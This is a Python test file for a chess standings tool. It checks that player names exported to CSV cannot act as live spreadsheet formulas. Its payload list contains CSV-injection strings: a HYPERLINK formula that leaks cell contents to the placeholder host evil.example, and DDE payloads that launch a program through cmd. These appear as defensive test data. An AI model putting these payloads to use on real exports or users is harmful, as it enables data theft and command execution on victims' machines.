"""``standings --format csv``: a player's name is never a live spreadsheet formula (OWASP, "CSV
Injection"); the numbers kifu computes stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from kifu.app import cli
from kifu.core.escape import FORMULA_STARTS, csv_cell

#: OWASP's list of formula starts, each with a formula after it, and the three payloads of the
#: audit (a link that sends a cell's content away, DDE running a program, a function)
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _standings_csv(*arguments: str) -> list[list[str]]:
    result = CliRunner().invoke(cli, ["standings", *arguments, "--format", "csv"])
    assert result.exit_code == 0, result.output + result.stderr
    return list(csv.reader(io.StringIO(result.stdout)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    header, body = rows[0], rows[1:]
    name = header.index("Name")
    for row in body:
        assert not row[name].startswith(FORMULA_STARTS), row
        for cell in row[header.index("Pts") :]:  # points and tie-breaks: kifu's numbers, as numbers
            assert cell == "" or float(cell.replace("½", ".5")) >= 0, row


def test_names_from_a_results_table_are_written_as_text(tmp_path: Path) -> None:
    table = io.StringIO()
    writer = csv.writer(table, lineterminator="\n")
    for number, payload in enumerate(PAYLOADS, start=1):
        writer.writerow([1, number, payload, f"Opponent {number}", "1-0"])
    path = tmp_path / "event.csv"
    path.write_text(table.getvalue(), encoding="utf-8")
    rows = _standings_csv(str(path))
    _assert_no_formula(rows)
    names = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in names  # the text is kept
    assert "'+cmd|' /C calc'!A0" in names
    assert "'@SUM(1+1)" in names
    assert "Opponent 1" in names  # an ordinary name is left alone


def test_names_from_records_are_written_as_text(tmp_path: Path) -> None:
    for number, payload in enumerate(PAYLOADS[-3:], start=1):
        escaped = payload.replace("\\", "\\\\").replace('"', '\\"')
        (tmp_path / f"g{number}.pgn").write_text(
            f'[Event "E"]\n[Site "S"]\n[Date "2024.01.01"]\n[Round "1"]\n[White "{escaped}"]\n'
            f'[Black "Player {number}"]\n[Result "1/2-1/2"]\n\n1. e4 e5 1/2-1/2\n',
            encoding="utf-8",
        )
    rows = _standings_csv(str(tmp_path))
    _assert_no_formula(rows)
    assert "'+cmd|' /C calc'!A0" in {row[2] for row in rows[1:]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_neutralises_every_formula_start(payload: str) -> None:
    cell = csv_cell(payload)
    assert cell.startswith("'") and not cell.startswith(FORMULA_STARTS)
    assert "\r" not in cell and "\t" not in cell  # (shown as \r and \t: a CSV is read in terminals too)


def test_csv_cell_leaves_text_alone() -> None:
    assert csv_cell("Карпов, Анатолий") == "Карпов, Анатолий"
    assert csv_cell("O'Kelly") == "O'Kelly"
